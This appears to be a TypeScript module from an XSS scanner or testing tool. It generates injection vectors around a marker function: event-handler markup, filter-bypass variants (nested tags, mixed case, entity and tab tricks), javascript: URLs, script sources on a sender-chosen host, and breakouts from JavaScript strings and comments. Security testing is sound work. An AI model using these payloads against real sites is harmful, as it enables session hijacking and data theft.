/** Ways to write code that uses a marker, for filters that take some characters away. The plainest comes first. */
export function codesFor(marker: string): string[] {
  return [`${marker}()`, `${marker}\`1\``, `${marker}=1`];
}

/** Markup that runs code by itself, the likeliest to pass first; each meets another filter. */
export function elementsFor(marker: string): Vector[] {
  const [call, tagged, assigned] = codesFor(marker);
  const entities = `${marker}&lpar;&rpar;`;
  return [
    { text: `<svg onload=${call}>` },
    { text: `<ScRiPt>${call}</sCrIpT>` },
    { text: `<svg/onload=${call}>` },
    { text: `<svg onload=${call} ` },
    { text: `<img src=x onerror=${call}>` },
    { text: `<scr<script>ipt>${call}</scr</script>ipt>`, assume: stripScriptOnce },
    { text: `<a href=javascript:${call}>x</a>` },
    { text: `<details open ontoggle=${call}>` },
    { text: `<svg onload=${tagged}>` },
    { text: `<svg onload=${entities}>` },
    { text: `<iframe srcdoc="&lt;svg onload=${call}&gt;">` },
    { text: `<svg\nonload=${call}>` },
    { text: `<svg/onload=${tagged}>` },
    { text: `<script>${tagged}</script>` },
    { text: `<svg onload=${assigned}>` },
    { text: `<<b>svg onload=${call}<b>>`, assume: (text) => text.replaceAll('<b>', '') },
    { text: `<svg oonnload=${call}>`, assume: (text) => text.replace('on', '') },
    { text: `<a href="jav&#9;ascript:${call}">x</a>` },
    { text: `<a href=jajavascript:vascript:${call}>x</a>`, assume: (text) => text.replace('javascript:', '') },
    { text: `<input autofocus onfocus=${call}>` },
    { text: `<svg><animate onbegin=${call} attributeName=x>` },
    { text: `<svg/onload='${call}'` },
    { text: `<q oncut=${tagged}>` },
  ];
}

/** A piece of markup or code, and the filter under which alone it becomes what it should. */
export interface Vector {
  text: string;
  assume?: (text: string) => string;
}

/** What people write against `<script>`: one pass, so that what is left may be one again. */
export function stripScriptOnce(text: string): string {
  return text.replaceAll(/<\/?script>/gi, '');
}

/** Attributes for an element that is there already; `before` ends the value, `after` takes the rest of it in. */
export function attributesFor(marker: string, before: string, after: string): Vector[] {
  const [call, tagged, assigned] = codesFor(marker);
  const code = [call, tagged, `${marker}&lpar;&rpar;`, assigned];
  return code.flatMap((each) => [
    { text: `${before} autofocus tabindex=1 onfocus=${each} ${after}` },
    { text: `${before}/onfocus=${each} ${after}` },
    { text: `${before}\tautofocus\ttabindex=1\tonfocus=${each}\t${after}` },
    { text: `${before}\fonfocus=${each}\f${after}` },
    { text: `${before} oonnfocus=${each} ${after}`, assume: (text) => text.replace('on', '') },
  ]);
}

/** URLs that run code when a browser goes there. */
export function urlsFor(marker: string): Vector[] {
  const [call, tagged] = codesFor(marker);
  return [
    { text: `javascript:${call}` },
    { text: `javascript:${call}//https://example.com/` },
    { text: `JaVaScRiPt:${call}` },
    { text: `java\tscript:${call}` },
    { text: ` javascript:${call}` },
    { text: `javascript:${tagged}` },
    { text: `javascript:${marker}%28%29` },
    { text: `javascript&colon;${call}` },
    { text: `&#106;avascript:${call}` },
    { text: `jajavascript:vascript:${call}`, assume: (text) => text.replace('javascript:', '') },
  ];
}

/** Addresses of a script on a host of the sender's choice. */
export function sourcesFor(marker: string): Vector[] {
  return [
    { text: `//${marker}.example/x` },
    { text: `https://${marker}.example/x` },
    { text: `\\\\${marker}.example/x` },
  ];
}

/** Ways out of a place in JavaScript and into code. */
export function codeBreakoutsFor(marker: string, place: string | undefined): Vector[] {
  return codesFor(marker).flatMap((code) => breakouts(code, marker, place).map((text) => ({ text })));
}

function breakouts(code: string, marker: string, place: string | undefined): string[] {
  if (place === 'string-single' || place === 'string-double') {
    const quote = place === 'string-single' ? "'" : '"';
    return [
      `${quote}-${code}-${quote}`,
      `${quote};${code};//`,
      `${quote});${code};(${quote}`,
      `${quote}+[${code}]+${quote}`,
      `${quote}:${code},${quote}`,
      `${quote}});${code};//`,
      `${quote}}};${code};//`,
      `\\${quote}-${code}//`,
      `\\${quote};${code};//`,
      `\\${quote});${code};//`,
      `\\${quote}});${code};//`,
    ];
  }
  if (place === 'template') return [`\${${code}}`, `\`-${code}-\``, `\`;${code};//`];
  if (place === 'regexp') return [`x/-${code}-/x`, `x/;${code};//`];
  if (place === 'line-comment') return [`\n${code}//`, `\u2028${code}//`];
  if (place === 'block-comment') return [`*/${code}/*`, `*/;${code};/*`];
  return [
    code,
    `-${code}-1`,
    `1;${code};//`,
    `;${code};//`,
    `self.${code}`,
    `self.${marker}()//`,
    `1};${code};//`,
    `1);${code};//`,
  ];
}
